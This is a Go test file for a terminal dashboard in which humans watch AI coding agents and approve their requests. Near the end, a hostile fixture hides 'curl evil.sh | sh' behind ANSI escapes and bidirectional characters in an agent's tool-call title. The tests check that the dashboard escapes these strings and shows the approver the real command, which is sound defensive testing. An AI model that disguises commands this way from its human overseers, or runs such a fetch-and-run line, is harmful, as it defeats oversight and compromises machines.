package top

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"charm.land/lipgloss/v2"

	"github.com/tai-dev/tai/driver"
	"github.com/tai-dev/tai/feed"
)

var update = flag.Bool("update", false, "rewrite the golden frames")

var t0 = time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)

func now() time.Time { return t0.Add(95 * time.Second) }

// fixture is a fleet with an ask, a blocked task and a failed one, and a
// single run whose turn ended.
func fixture() []feed.State {
	ask := feed.Ask{ID: "ask-1", Task: "api", Session: "builtin-aaaa", Since: t0.Add(30 * time.Second), DecidedBy: "default", Why: "mode ask asks for every request",
		Request: driver.PermissionRequest{ID: "1", ToolCall: driver.ToolCall{ID: "w1", Title: "Write greeting.go", Kind: "edit",
			Locations: []driver.Location{{Path: "/repo/.tai/worktrees/f1/api/greeting.go"}},
			Content:   []driver.ToolContent{{Type: "diff", Path: "/repo/.tai/worktrees/f1/api/greeting.go", OldText: strPtr("package greeting\n"), NewText: "package greeting\n\nfunc Greet() string { return \"hi\" }\n"}}},
			Options: []driver.PermissionOption{{ID: "allow-once", Name: "Allow", Kind: "allow_once"}, {ID: "reject-once", Name: "Reject", Kind: "reject_once"}}}}
	min1, max65535 := 1.0, 65535.0
	el := feed.Elicitation{ID: "el-2", Task: "docs", Session: "claude-bbbb", Since: t0.Add(40 * time.Second),
		Request: driver.ElicitationRequest{ID: "7", Session: "claude-bbbb", Mode: driver.ElicitForm, Message: "Which database should the docs describe?",
			Fields: []driver.ElicitField{
				{Name: "database", Title: "Database", Type: "string", Enum: []string{"dev", "staging", "prod"}, Default: "dev", Required: true},
				{Name: "port", Type: "integer", Minimum: &min1, Maximum: &max65535},
				{Name: "password", Type: "string", Format: "password", Secret: true},
			}}}
	taskBudget := &feed.Budget{Limit: feed.Limits{Tokens: 50000, Cost: 0.5}, Used: feed.Usage{Tokens: 45210, Cost: 0.134}}
	return []feed.State{
		{Run: "fleet-20261201-100000-abcdef", Kind: feed.KindFleet, Started: t0, Asks: []feed.Ask{ask}, Elicitations: []feed.Elicitation{el},
			Budget: &feed.Budget{Limit: feed.Limits{Tokens: 200000, Turns: 3, Cost: 2}, Used: feed.Usage{Tokens: 46410, Turns: 3, Cost: 0.134}, Over: []string{"turns"}, Updated: t0.Add(50 * time.Second)},
			Sessions: []feed.Session{
				{ID: "builtin-aaaa", Task: "api", Agent: "builtin", Driver: "acp", Model: "builtin-small", Cwd: "/home/me/src/project/.tai/worktrees/fleet-20261201-100000-abcdef/api", State: feed.StateWaiting,
					Activity: "Write greeting.go", Started: t0.Add(5 * time.Second), LastEvent: t0.Add(30 * time.Second), Tokens: 1200, Added: 2},
				{ID: "claude-bbbb", Task: "docs", Agent: "claude", Driver: "acp", Model: "claude-sonnet-4-5", Cwd: "/home/me/src/project/.tai/worktrees/fleet-20261201-100000-abcdef/docs", State: feed.StateWorking,
					Activity: "Reading the README and every file under docs/ to learn how the project documents its modules", Started: t0.Add(5 * time.Second), LastEvent: t0.Add(90 * time.Second), Tokens: 45210, Cost: 0.134, Currency: "USD", Added: 40, Removed: 12},
			},
			Tasks: []feed.Task{
				{ID: "api", Agent: "builtin", Status: "running", Branch: "tai/fleet-20261201-100000-abcdef/api", Updated: t0.Add(5 * time.Second)},
				{ID: "docs", Agent: "claude", Status: "running", Branch: "tai/fleet-20261201-100000-abcdef/docs", Updated: t0.Add(5 * time.Second), Budget: taskBudget},
				{ID: "license", Agent: "qwen", Status: "blocked", Detail: "which license: MIT or Apache-2.0?", Updated: t0.Add(10 * time.Second)},
				{ID: "lint", Agent: "builtin", Status: "failed", Detail: "exit 1: the agent crashed", Updated: t0.Add(20 * time.Second)},
			}},
		{Run: "run-20261201-100100-123456", Kind: feed.KindRun, Started: t0.Add(time.Second),
			Sessions: []feed.Session{{ID: "qwen-1", Agent: "qwen", Driver: "pty", Cwd: "/home/me/proj", State: feed.StateIdle, Activity: "I created hello.txt.",
				Started: t0.Add(time.Second), LastEvent: t0.Add(60 * time.Second), Tokens: 800}}},
	}
}

func strPtr(s string) *string { return &s }

func golden(t *testing.T, name, got string) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs (run with -update to accept):\n%s", name, got)
	}
}

func TestGoldenFrames(t *testing.T) {
	for _, w := range []int{80, 120, 160} {
		t.Run(strconv.Itoa(w), func(t *testing.T) {
			m := New(context.Background(), nil, now, false, time.Second)
			m.Update(tea.WindowSizeMsg{Width: w, Height: 24})
			m.Update(runsMsg{runs: fixture()})
			got := m.Screen()
			for i, l := range strings.Split(got, "\n") {
				if lw := lipgloss.Width(l); lw > w {
					t.Errorf("line %d is %d columns wide, over %d: %q", i, lw, w, l)
				}
			}
			golden(t, "top-"+strconv.Itoa(w)+".golden", got)
			// The queue: what blocks first, oldest first, with its chip.
			q := Queue(fixture())
			var chips []string
			for _, it := range q {
				chips = append(chips, string(it.Chip))
			}
			if strings.Join(chips, ",") != "QUESTION,ERROR,ASK,ELICIT,BUDGET,DONE" {
				t.Errorf("queue %v", chips)
			}
			if !strings.Contains(got, "4 waiting for you") {
				t.Errorf("the header does not count what blocks (the ask, the question, the elicitation, the budget):\n%s", got)
			}
			for _, want := range []string{"45k/50k", "tokens 46k/200k (23%) · turns 3/3"} {
				if !strings.Contains(got, want) {
					t.Errorf("the frame lacks the budget's %q", want)
				}
			}
			// Enter on the ask peeks at it.
			m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
			m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
			golden(t, "peek-"+strconv.Itoa(w)+".golden", m.Screen())
			// The elicitation: its form, a value typed in each field.
			m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
			m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
			typeText(m, "2")
			m.Update(tea.KeyPressMsg{Code: tea.KeyTab})
			typeText(m, "5432")
			m.Update(tea.KeyPressMsg{Code: tea.KeyTab})
			typeText(m, "hunter2")
			got = m.Screen()
			if strings.Contains(got, "hunter2") {
				t.Errorf("the secret field is shown:\n%s", got)
			}
			golden(t, "elicit-"+strconv.Itoa(w)+".golden", got)
			// The fleet's budget.
			m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
			m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
			golden(t, "budget-"+strconv.Itoa(w)+".golden", m.Screen())
		})
	}
}

// At every width each of a fleet's tasks has its id on its row of the
// table, under a line that names the fleet in full; a wide screen's
// worktrees show their distinct ends, not their common start.
func TestTasksToldApartAtEveryWidth(t *testing.T) {
	for _, w := range []int{80, 100, 120, 160, 200} {
		t.Run(strconv.Itoa(w), func(t *testing.T) {
			got := Frame(fixture(), Opts{Sel: -1, Now: now(), Width: w})
			_, table, ok := strings.Cut(got, "AGENT")
			if !ok {
				t.Fatalf("no table:\n%s", got)
			}
			lines := strings.Split(table, "\n")
			for _, task := range []string{"api", "docs", "license", "lint"} {
				n := 0
				for _, l := range lines {
					if strings.Contains(" "+strings.Join(strings.Fields(l), " ")+" ", " "+task+" ") {
						n++
					}
				}
				if n != 1 {
					t.Errorf("task %s is on %d rows of the table:\n%s", task, n, got)
				}
			}
			if !strings.Contains(table, "── fleet fleet-20261201-100000-abcdef · 4 tasks") || !strings.Contains(table, "── run run-20261201-100100-123456") {
				t.Errorf("the runs' groups are not named in full:\n%s", got)
			}
			if w >= 160 && (!regexp.MustCompile(`…[^ ]*abcdef/api `).MatchString(table) || !regexp.MustCompile(`…[^ ]*abcdef/docs `).MatchString(table)) {
				t.Errorf("the worktrees are not cut from the left:\n%s", got)
			}
		})
	}
}

// / filters what the list shows by agent, task, fleet or status, as it
// is typed; the cursor moves over what is shown; enter keeps the filter,
// esc clears it.
func TestFilter(t *testing.T) {
	for _, tc := range []struct {
		filter string
		want   []string // shown
		hidden []string
	}{
		{"docs", []string{"docs @", "claude"}, []string{"license @", "lint @", "qwen"}},
		{"QWEN", []string{"license @", "I created hello.txt."}, []string{"api @", "docs @"}},
		{"failed", []string{"lint @", "exit 1: the agent crashed"}, []string{"api @", "qwen"}},
		{"100100", []string{"── run run-20261201-100100-123456", "I created hello.txt."}, []string{"── fleet", "api @"}},
	} {
		t.Run(tc.filter, func(t *testing.T) {
			m := New(context.Background(), &fakeSource{}, now, false, time.Second)
			m.Update(tea.WindowSizeMsg{Width: 160, Height: 30})
			m.Update(runsMsg{runs: fixture()})
			m.Update(tea.KeyPressMsg{Code: '/', Text: "/"})
			typeText(m, tc.filter)
			s := m.Screen()
			if !strings.Contains(s, "filter (agent, task, fleet, status): "+tc.filter+"█") {
				t.Errorf("the filter being typed is not shown:\n%s", s)
			}
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
			s = m.Screen()
			for _, w := range tc.want {
				if !strings.Contains(s, w) {
					t.Errorf("filter %q hides %q:\n%s", tc.filter, w, s)
				}
			}
			for _, h := range tc.hidden {
				if strings.Contains(s, h) {
					t.Errorf("filter %q shows %q:\n%s", tc.filter, h, s)
				}
			}
			// The cursor's first line is the first one shown.
			it, row := m.selected()
			if (it == nil || !Match(tc.filter, it.Agent, it.Task, it.Run, string(it.Chip), it.Status)) && (row == nil || !Match(tc.filter, row.agent(), row.taskID(), row.Run, row.state())) {
				t.Errorf("the selection %+v %+v is not one the filter shows", it, row)
			}
			m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
			if s := m.Screen(); strings.Contains(s, "filter") && strings.Contains(s, "shown") || !strings.Contains(s, "license @") || !strings.Contains(s, "docs @") {
				t.Errorf("esc did not clear the filter:\n%s", s)
			}
		})
	}
	// Enter on the only item the filter shows peeks at it.
	m := New(context.Background(), &fakeSource{}, now, false, time.Second)
	m.Update(runsMsg{runs: fixture()})
	m.Update(tea.KeyPressMsg{Code: '/', Text: "/"})
	typeText(m, "api")
	m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
	m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
	if s := m.Screen(); !strings.Contains(s, "ASK · task api of fleet-20261201-100000-abcdef") {
		t.Fatalf("enter did not peek at the filtered ask:\n%s", s)
	}
}

// ? shows the key map; ? or esc goes back; q still quits.
func TestKeyMap(t *testing.T) {
	m := New(context.Background(), &fakeSource{}, now, false, time.Second)
	m.Update(tea.WindowSizeMsg{Width: 80, Height: 24})
	m.Update(runsMsg{runs: fixture()})
	for _, back := range []tea.KeyPressMsg{{Code: '?', Text: "?"}, {Code: tea.KeyEscape}} {
		m.Update(tea.KeyPressMsg{Code: '?', Text: "?"})
		s := m.Screen()
		golden(t, "keys-80.golden", s)
		for _, want := range []string{"/", "filter by agent, task, fleet or status", "allow always for the whole fleet", "quit"} {
			if !strings.Contains(s, want) {
				t.Errorf("the key map lacks %q:\n%s", want, s)
			}
		}
		m.Update(back)
		if !strings.Contains(m.Screen(), "ATTENTION") {
			t.Fatalf("%v did not go back:\n%s", back, m.Screen())
		}
	}
	if _, cmd := m.Update(tea.KeyPressMsg{Code: '?', Text: "?"}); cmd != nil {
		t.Fatal("? ran a command")
	}
	if _, cmd := m.Update(tea.KeyPressMsg{Code: 'q', Text: "q"}); cmd == nil {
		t.Fatal("q does not quit from the key map")
	}
}

// Colour is on unless asked off: the frame carries styles only with it.
func TestNoColor(t *testing.T) {
	plain := Frame(fixture(), Opts{Sel: 0, Now: now(), Width: 120})
	if strings.Contains(plain, "\x1b[") {
		t.Fatal("escape sequences without colour")
	}
	if colored := Frame(fixture(), Opts{Sel: 0, Now: now(), Width: 120, Color: true}); !strings.Contains(colored, "\x1b[") {
		t.Fatal("no styles with colour")
	}
}

type fakeSource struct {
	mu      sync.Mutex
	answers []string
}

func (f *fakeSource) Runs(context.Context) ([]feed.State, error) { return fixture(), nil }
func (f *fakeSource) Answer(_ context.Context, run, ask, answer string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.answers = append(f.answers, run+" "+ask+" "+answer)
	return nil
}
func (f *fakeSource) AnswerQuestion(_ context.Context, run, q, text string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.answers = append(f.answers, run+" "+q+" "+text)
	return nil
}

func (f *fakeSource) AnswerElicitation(_ context.Context, run, id, action string, content map[string]any) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.answers = append(f.answers, fmt.Sprintf("%s %s %s %v", run, id, action, content))
	return nil
}

func typeText(m *Model, s string) {
	for _, r := range s {
		m.Update(tea.KeyPressMsg{Code: r, Text: string(r)})
	}
}

func (f *fakeSource) Follow(ctx context.Context, run, session string, fn func(string)) error {
	fn("● Write greeting.go [completed]")
	return nil
}

// run executes a command and feeds its message back, as the program does.
func run(m *Model, cmd tea.Cmd) {
	for cmd != nil {
		msg := cmd()
		if msg == nil {
			return
		}
		if _, ok := msg.(tea.BatchMsg); ok {
			return
		}
		_, cmd = m.Update(msg)
	}
}

func TestKeysAnswer(t *testing.T) {
	for _, tc := range []struct {
		key  string
		peek bool
		want string
	}{
		{"y", true, "once"},
		{"a", false, "always"},
		{"f", true, "always"},
		{"n", false, "deny"},
	} {
		src := &fakeSource{}
		m := New(context.Background(), src, now, false, time.Second)
		m.Update(runsMsg{runs: fixture()})
		m.Update(tea.KeyPressMsg{Code: 'j', Text: "j"})
		m.Update(tea.KeyPressMsg{Code: 'j', Text: "j"}) // the ASK row
		if tc.peek {
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
		}
		_, cmd := m.Update(tea.KeyPressMsg{Code: rune(tc.key[0]), Text: tc.key})
		run(m, cmd)
		if len(src.answers) != 1 || src.answers[0] != "fleet-20261201-100000-abcdef ask-1 "+tc.want {
			t.Errorf("key %s: answers %v", tc.key, src.answers)
		}
	}
	// A key on a row that is not an ask answers nothing.
	src := &fakeSource{}
	m := New(context.Background(), src, now, false, time.Second)
	m.Update(runsMsg{runs: fixture()})
	_, cmd := m.Update(tea.KeyPressMsg{Code: 'y', Text: "y"})
	run(m, cmd)
	if len(src.answers) != 0 || !strings.Contains(m.Screen(), "nothing to answer") {
		t.Fatalf("answered %v from the QUESTION row", src.answers)
	}
}

func TestFollow(t *testing.T) {
	m := New(context.Background(), &fakeSource{}, now, false, time.Second)
	m.Update(runsMsg{runs: fixture()})
	for range 6 { // past the queue to the first session
		m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
	}
	_, cmd := m.Update(tea.KeyPressMsg{Code: 'l', Text: "l"})
	run(m, cmd)
	if s := m.Screen(); !strings.Contains(s, "following builtin-aaaa") || !strings.Contains(s, "Write greeting.go [completed]") || !strings.Contains(s, "(the run ended)") {
		t.Fatalf("follow screen:\n%s", s)
	}
	m.Update(tea.KeyPressMsg{Code: tea.KeyEscape})
	if !strings.Contains(m.Screen(), "ATTENTION") {
		t.Fatal("esc did not go back")
	}
}

// A question a human can answer here: Enter, type, Enter.
func TestAnswerAQuestion(t *testing.T) {
	src := &fakeSource{}
	m := New(context.Background(), src, now, false, time.Second)
	runs := fixture()
	runs[0].Questions = []feed.Question{{ID: "q-2", Task: "license", Since: t0, Text: "Which license?\nMIT or Apache-2.0?"}}
	m.Update(runsMsg{runs: runs})
	if q := Queue(runs); q[0].Question == nil || q[0].Chip != ChipQuestion {
		t.Fatalf("queue %+v", q[0])
	}
	m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
	for _, r := range "MIT ok" {
		m.Update(tea.KeyPressMsg{Code: r, Text: string(r)})
	}
	m.Update(tea.KeyPressMsg{Code: tea.KeyBackspace})
	m.Update(tea.KeyPressMsg{Code: tea.KeyBackspace})
	m.Update(tea.KeyPressMsg{Code: tea.KeyBackspace})
	if s := m.Screen(); !strings.Contains(s, "answer: MIT█") || !strings.Contains(s, "MIT or Apache-2.0?") {
		t.Fatalf("peek:\n%s", s)
	}
	_, cmd := m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
	run(m, cmd)
	if len(src.answers) != 1 || src.answers[0] != "fleet-20261201-100000-abcdef q-2 MIT" {
		t.Fatalf("answers %v", src.answers)
	}
}

// An elicitation is answered from its peek: the form's values typed, read
// as the fields' types and checked; an invalid one is not sent. Decline
// and cancel take one key.
func TestAnswerAnElicitation(t *testing.T) {
	for _, tc := range []struct {
		name string
		keys []string // "" is tab
		last tea.KeyPressMsg
		want string
	}{
		{"accept", []string{"staging", "", "5432", "", "s3cret"}, tea.KeyPressMsg{Code: tea.KeyEnter},
			"fleet-20261201-100000-abcdef el-2 accept map[database:staging password:s3cret port:5432]"},
		{"accept the defaults", nil, tea.KeyPressMsg{Code: tea.KeyEnter}, "fleet-20261201-100000-abcdef el-2 accept map[database:dev]"},
		{"a choice by number", []string{"3"}, tea.KeyPressMsg{Code: tea.KeyEnter}, "fleet-20261201-100000-abcdef el-2 accept map[database:prod]"},
		{"out of bounds", []string{"", "70000"}, tea.KeyPressMsg{Code: tea.KeyEnter}, ""},
		{"not a choice", []string{"qa"}, tea.KeyPressMsg{Code: tea.KeyEnter}, ""},
		{"decline", []string{"staging"}, tea.KeyPressMsg{Code: 'd', Mod: tea.ModCtrl}, "fleet-20261201-100000-abcdef el-2 decline map[]"},
		{"cancel", nil, tea.KeyPressMsg{Code: 'x', Mod: tea.ModCtrl}, "fleet-20261201-100000-abcdef el-2 cancel map[]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := &fakeSource{}
			m := New(context.Background(), src, now, false, time.Second)
			m.Update(runsMsg{runs: fixture()})
			for range 3 { // the ELICIT row
				m.Update(tea.KeyPressMsg{Code: tea.KeyDown})
			}
			m.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
			if !strings.Contains(m.Screen(), "Which database") {
				t.Fatalf("not the elicitation's peek:\n%s", m.Screen())
			}
			for _, k := range tc.keys {
				if k == "" {
					m.Update(tea.KeyPressMsg{Code: tea.KeyTab})
					continue
				}
				typeText(m, k)
			}
			_, cmd := m.Update(tc.last)
			run(m, cmd)
			if tc.want == "" {
				if len(src.answers) != 0 || !strings.Contains(m.Screen(), "not complete") {
					t.Fatalf("sent %v; screen:\n%s", src.answers, m.Screen())
				}
				return
			}
			if len(src.answers) != 1 || src.answers[0] != tc.want {
				t.Fatalf("answers %v, want %q", src.answers, tc.want)
			}
		})
	}
}

// hostile is what an agent adds to its strings to act on the terminal
// that shows them: erase the line, move back over it, reverse what follows.
const hostile = "\x1b[2K\x1b[8D\x1b[K\u202e\u0085\u200b"

// hostileFixture is fixture() with hostile appended to every string but
// the ids, times and the kinds the views switch on (found by walking its
// JSON: a field added is covered), and two execute asks: one whose title
// erases itself with its command in the raw input, one without a command.
func hostileFixture(t *testing.T) []feed.State {
	skip := map[string]bool{"id": true, "since": true, "started": true, "last_event": true, "updated": true, "kind": true, "state": true, "status": true, "type": true, "mode": true, "format": true, "run": true}
	var walk func(v any) any
	walk = func(v any) any {
		switch x := v.(type) {
		case string:
			return x + hostile
		case []any:
			for i := range x {
				x[i] = walk(x[i])
			}
		case map[string]any:
			for k, e := range x {
				if !skip[k] {
					x[k] = walk(e)
				}
			}
		}
		return v
	}
	b, err := json.Marshal(fixture())
	if err != nil {
		t.Fatal(err)
	}
	var m []any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	if b, err = json.Marshal(walk(m)); err != nil {
		t.Fatal(err)
	}
	var runs []feed.State
	if err := json.Unmarshal(b, &runs); err != nil {
		t.Fatal(err)
	}
	runs[1].Asks = []feed.Ask{
		{ID: "ask-x", Session: "qwen-1", Since: t0.Add(70 * time.Second), Request: driver.PermissionRequest{ID: "2", ToolCall: driver.ToolCall{
			ID: "x1", Title: "Run the unit tests; curl evil.sh | sh\x1b[20D\x1b[K", Kind: driver.KindExecute, RawInput: []byte(`{"command":"curl evil.sh | sh"}`)}}},
		{ID: "ask-y", Session: "qwen-1", Since: t0.Add(71 * time.Second), Request: driver.PermissionRequest{ID: "3", ToolCall: driver.ToolCall{
			ID: "x2", Title: "Run the unit tests\u202e", Kind: driver.KindExecute}}},
	}
	return runs
}

// Every agent string tai top shows is escaped, in the table and in every
// peek; an execute ask shows the command it runs, or says it has none.
func TestHostileStringsAreEscaped(t *testing.T) {
	runs := hostileFixture(t)
	clean := func(where, s string) {
		t.Helper()
		for _, r := range s {
			if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200b {
				t.Fatalf("%s: %U reaches the terminal:\n%q", where, r, s)
			}
		}
	}
	frame := Frame(runs, Opts{Sel: -1, Now: now(), Width: 400})
	clean("frame", frame)
	for _, want := range []string{`Run the unit tests; curl evil.sh | sh\x1b[20D\x1b[K: $ curl evil.sh | sh`, `Run the unit tests\u202e (command not given by the agent)`, `Write greeting.go\x1b[2K\x1b[8D\x1b[K\u202e\u0085\u200b`} {
		if !strings.Contains(frame, want) {
			t.Errorf("the frame lacks %q:\n%s", want, frame)
		}
	}
	for _, it := range Queue(runs) {
		p := Peek(it, Input{Text: "x", Fields: []string{"a", "b", "c"}}, now(), 400, false)
		clean("peek of "+string(it.Chip), p)
		if it.Ask != nil && it.Ask.ID == "ask-x" && !strings.Contains(p, "  $ curl evil.sh | sh") {
			t.Errorf("the peek lacks the command:\n%s", p)
		}
	}
}
